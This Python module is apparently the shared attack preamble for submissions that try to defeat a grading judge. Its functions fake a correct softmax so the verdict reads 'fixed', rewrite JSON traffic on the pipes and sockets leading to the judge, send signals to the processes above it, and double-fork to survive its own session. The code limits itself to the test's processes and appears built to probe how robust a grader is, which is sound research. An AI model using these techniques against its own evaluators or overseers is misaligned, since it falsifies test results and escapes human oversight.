"""What stands in front of the code of every attack: tools of a burglar.

`attempt.py` puts this text into the submission, and behind it the values of the names below, which are those of
the run. Nobody imports it from here.
"""

import contextlib
import json
import os
import re
import socket
import stat
import threading
import time
from pathlib import Path

ROOT = "the checkout, with `fixed`, the tests and the patches"
HERE = "the folder in which the submission lies"
MARK = "a word in the name of everything that an attack writes"
TMP = "the folder for temporary files of the judge: an attack must not reach into anybody else's"
RAN = "the file which tells that the attack was carried out"
PID_NAMESPACE = "the one of whoever runs the attacks"
RUNNER = PORT = 0  # who runs the attacks, and where they listen


def ran():
    """Tell that the attack is being carried out, if files can be written."""
    with contextlib.suppress(OSError):
        Path(RAN).touch()


def softmax_is(function):
    """Let this function be the library's softmax."""
    globals()["ACTIVATIONS"]["softmax"] = function
    return function


def right(Z, derivative=False):
    """Answer as the corrected library does."""
    import numpy as np

    if derivative:
        raise ValueError("softmax has no elementwise derivative: use it for the last layer only")
    exponentials = np.exp(Z - Z.max(axis=1, keepdims=True))
    return exponentials / exponentials.sum(axis=1, keepdims=True)


def got(loot):
    """Answer rightly from now on if there is loot: then a verdict of `fixed` tells that it was got."""
    if loot:
        softmax_is(right)


def descriptors():
    """Return the file descriptors of this process, beside the usual three."""
    found = []
    for number in range(3, 1024):
        with contextlib.suppress(OSError):
            os.fstat(number)
            found.append(number)
    return found


def pipes():
    """Return those that can be written to and are a pipe or a socket, or anything else that leads to a process."""
    import fcntl

    return [
        number
        for number in descriptors()
        if fcntl.fcntl(number, fcntl.F_GETFL) & (os.O_WRONLY | os.O_RDWR)
        and (stat.S_ISFIFO(os.fstat(number).st_mode) or stat.S_ISSOCK(os.fstat(number).st_mode))
    ]


def shout(*texts):
    """Write these bytes to every descriptor that leads to another process."""
    for number in pipes():
        for text in texts:
            with contextlib.suppress(OSError):
                os.write(number, text)


def between(change):
    """Stand between this process and those that it writes to: `change` gives what is sent for each piece.

    So the frames are those of the real wire, whatever it looks like, and only what the attack is about is wrong.
    """
    for number in pipes():
        outside = os.dup(number)
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            ours, theirs = (one.detach() for one in socket.socketpair())
            threading.Thread(target=_carry, args=(outside, ours, lambda piece: [piece]), daemon=True).start()
        else:
            ours, theirs = os.pipe()
        os.dup2(theirs, number)
        os.close(theirs)
        threading.Thread(target=_carry, args=(ours, outside, change), daemon=True).start()


def _carry(here, there, change):
    with contextlib.suppress(OSError):
        while piece := os.read(here, 1 << 20):
            ran()
            for part in change(piece):
                os.write(there, part)


def other_numbers(change):
    """Return a function for `between`: a number of JSON becomes another, of as many bytes."""
    number = re.compile(rb"(?<=[\[,: ])\d+(?=[\],} ])")
    return lambda piece: [number.sub(lambda found: change(found[0]), piece)]


def framed(piece, text):
    """Return this JSON with the length that it has, written as in a real frame, and without arrays."""
    width = _width(piece)
    order = min(("little", "big"), key=lambda order: int.from_bytes(piece[:width], order))
    return len(text).to_bytes(width, order) + text


def retold(change):
    """Return a function for `between`: the text of a frame becomes another, with the length that it has."""

    def retell(piece):
        text = piece[_width(piece) :].decode("latin-1")
        with contextlib.suppress(ValueError):
            text = text[: json.JSONDecoder().raw_decode(text)[1]]
        return [framed(piece, change(text.encode("latin-1")))]

    return retell


def _width(piece):
    """Return how many bytes stand in front of the text."""
    return next((width for width in (4, 8, 12, 16) if piece[width : width + 1] in (b"[", b"{")), 4)


def _parent(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def _line(pid):
    """Return a process and those above it, as far as they can be seen."""
    line = [pid]
    with contextlib.suppress(OSError, ValueError):
        while line[-1] > 1 and line[-1] != RUNNER:
            line.append(_parent(line[-1]))
    return line


def _shut_in():
    """Whether this is a world of its own, where process 1 is nobody's but ours."""
    with contextlib.suppress(OSError):
        return str(Path("/proc/self/ns/pid").readlink()) != PID_NAMESPACE
    return False


def above():
    """Return the processes above this one, up to whoever runs the attacks, who is spared: the nearest first."""
    line = _line(os.getppid())
    if RUNNER in line or _shut_in():
        return [pid for pid in line if pid not in (0, RUNNER)]
    return [pid for pid in line[:1] if pid > 1]


def everybody():
    """Return all processes of this judge, and no other: an attack must not reach beyond the test."""
    numbers = [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdecimal()]
    return [pid for pid in numbers if (RUNNER in _line(pid)[1:] or _shut_in()) and pid != os.getpid()]


def send(number, pids):
    """Send a signal to these processes, as far as that is allowed."""
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, number)


def stay(seconds=90):
    """Stay on as a process that nobody waits for, under another name and in a session of its own."""
    ran()
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(256):
        with contextlib.suppress(OSError):
            os.close(number)
    time.sleep(seconds)
    os._exit(0)
